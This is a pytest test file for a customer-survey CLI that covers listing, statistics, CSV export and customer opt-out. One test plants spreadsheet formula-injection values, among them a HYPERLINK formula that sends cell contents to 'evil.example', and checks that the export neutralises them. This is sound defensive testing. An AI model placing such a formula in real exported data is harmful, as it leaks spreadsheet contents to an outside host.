"""`gateway surveys list | stats | opt-out` through Typer's CliRunner, over surveys in the store."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from sqlmodel import select
from typer.testing import CliRunner

from gateway.cli import app
from gateway.clock import utc_now
from gateway.models import Agent, Conversation, Customer, Status, Survey

runner = CliRunner()


@pytest.fixture
def env(database_url, store, monkeypatch) -> dict[str, str]:  # store: the database `gateway init` made
    monkeypatch.delenv("GATEWAY_CONFIG", raising=False)
    return {"GATEWAY_DATABASE_URL": database_url, "COLUMNS": "160"}


def gateway(env: dict[str, str], *args: str, code: int = 0) -> str:
    result = runner.invoke(app, ["surveys", *args], env=env)
    assert result.exit_code == code, result.output
    return result.output


@pytest.fixture
def answered(store) -> None:
    """Three surveys in the last days (two answered, one with a comment) and one a year ago."""
    now = utc_now()
    with store.transaction() as tx:
        alice, bob = Agent(address="alice@example.com", name="Alice"), Agent(address="bob@example.com", name="Bob")
        anne = Customer(address="anne@customer.example", name="Anne", created_at=now)
        tx.add_all([alice, bob, anne])
        tx.flush()
        for i, (channel, tags, agent, rating, comment, age) in enumerate([
                ("support@example.com", ["printer"], alice, 5, "Quick and friendly", 1),
                ("billing@example.com", [], bob, 2, "", 2),
                ("support@example.com", ["printer"], alice, None, "", 3),
                ("support@example.com", [], alice, 1, "Old news", 400)]):
            sent = now - timedelta(days=age)
            c = Conversation(ref=f"REF{i}AAAA", subject=f"Request {i}", customer_id=anne.id, channel=channel,
                             status=Status.RESOLVED, tags=tags, created_at=sent, updated_at=sent)
            tx.add(c)
            tx.flush()
            tx.add(Survey(conversation_id=c.id, customer_id=anne.id, channel=channel, agent_id=agent.id,
                          message_id=f"<s{i}@example.com>", sent_at=sent, expires_at=sent + timedelta(days=14),
                          rating=rating, comment=comment, rated_at=sent if rating else None,
                          rated_via="web" if rating else ""))


def test_list_shows_each_survey_with_its_answer_and_comment(env, answered) -> None:
    rows = [json.loads(line) for line in gateway(env, "list", "--json").splitlines()]
    assert [(r["ref"], r["rating"], r["comment"]) for r in rows] == [
        ("REF2AAAA", None, ""), ("REF1AAAA", 2, ""), ("REF0AAAA", 5, "Quick and friendly")]
    assert rows[-1]["tags"] == ["printer"] and rows[-1]["channel"] == "support@example.com"
    assert len(gateway(env, "list", "--json", "--answered").splitlines()) == 2
    assert len(gateway(env, "list", "--json", "--since", "all").splitlines()) == 4
    text = gateway(env, "list")
    assert "REF0AAAA" in text and "5/5 Excellent" in text and "Quick and friendly" in text
    # Piped into a narrow pipe: one line per survey, nothing cut.
    narrow = gateway({**env, "COLUMNS": "40"}, "list").splitlines()
    assert len(narrow) == 4 and "…" not in "".join(narrow)
    assert narrow[-1].endswith("5/5 Excellent  Quick and friendly")


def test_list_exports_csv_for_a_spreadsheet(env, answered) -> None:
    table = list(csv.DictReader(io.StringIO(gateway(env, "list", "--csv", "--since", "2000-01-01"))))
    assert len(table) == 4 and table[-1]["comment"] == "Quick and friendly" and table[-1]["rating"] == "5"
    assert table[0]["rating"] == "1" and table[0]["of"] == "5"


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(env, answered, store) -> None:
    with store.transaction() as tx:
        survey = tx.exec(select(Survey).where(Survey.comment == "Quick and friendly")).one()
        survey.comment = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
        conversation = tx.get(Conversation, survey.conversation_id)
        conversation.subject, conversation.tags = "+1 refund", ["@SUM(A1)"]
    (row,) = [r for r in csv.DictReader(io.StringIO(gateway(env, "list", "--csv"))) if r["rating"] == "5"]
    assert row["comment"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Details")'
    assert (row["subject"], row["tags"], row["rated_via"]) == ("'+1 refund", "'@SUM(A1)", "web")
    keys = [r["key"] for r in csv.DictReader(io.StringIO(gateway(env, "stats", "--csv"))) if r["group"] == "tag"]
    assert "'@SUM(A1)" in keys and "@SUM(A1)" not in keys


def test_stats_give_response_rate_csat_and_groups_but_agents_only_when_asked(env, answered) -> None:
    text = gateway(env, "stats")
    assert "surveys sent: 3 · answered: 2 (67%) · CSAT: 50% (1 of 2 satisfied)" in text
    assert "5 Excellent: 1" in text and "2 Poor: 1" in text
    assert "BY CHANNEL" in text and "billing@example.com" in text and "BY TAG" in text and "BY MONTH" in text
    assert "Quick and friendly" in text, "the newest comments"
    assert "Alice" not in text and "BY AGENT" not in text
    assert "BY AGENT" in gateway(env, "stats", "--by-agent") and "Alice" in gateway(env, "stats", "--by-agent")
    figures = json.loads(gateway(env, "stats", "--json", "--since", "all"))
    assert figures["overall"] == {"sent": 4, "answered": 3, "satisfied": 1, "response_rate": 0.75,
                                  "csat": pytest.approx(1 / 3)}
    assert figures["by_tag"]["printer"]["sent"] == 2 and "by_agent" not in figures
    assert [c["comment"] for c in figures["comments"]] == ["Quick and friendly", "Old news"]
    table = list(csv.DictReader(io.StringIO(gateway(env, "stats", "--csv"))))
    assert table[0] == {"group": "overall", "key": "all", "sent": "3", "answered": "2", "satisfied": "1",
                        "response_rate": "0.6667", "csat": "0.5000"}
    assert {(r["group"], r["key"]) for r in table} >= {("channel", "billing@example.com"), ("tag", "printer")}


def test_stats_with_no_surveys_say_so_without_dividing_by_zero(env, store) -> None:
    assert "surveys sent: 0 · answered: 0 (-) · CSAT: - (0 of 0 satisfied)" in gateway(env, "stats")


def test_a_bad_since_is_one_line_saying_what_works(env, store) -> None:
    result = runner.invoke(app, ["surveys", "list", "--since", "last tuesday"], env=env)
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [  # The words of every --since.
        "error: --since 'last tuesday' is not a time; write 30d (ago), today, 2026-03-01 or "
        "\"2026-03-01 14:00\" (in [hours] timezone)"]


def test_an_admin_can_opt_a_customer_out_and_back_in(env, answered, store) -> None:
    assert gateway(env, "opt-out", "Anne@Customer.example").strip() == "anne@customer.example gets no more surveys"
    with store.reading() as tx:
        assert tx.exec(select(Customer.surveys_opted_out_at)).one() is not None
    gateway(env, "opt-out", "anne@customer.example", "--undo")
    with store.reading() as tx:
        assert tx.exec(select(Customer.surveys_opted_out_at)).one() is None
    assert "no customer 'nobody@x.example'" in gateway(env, "opt-out", "nobody@x.example", code=1)

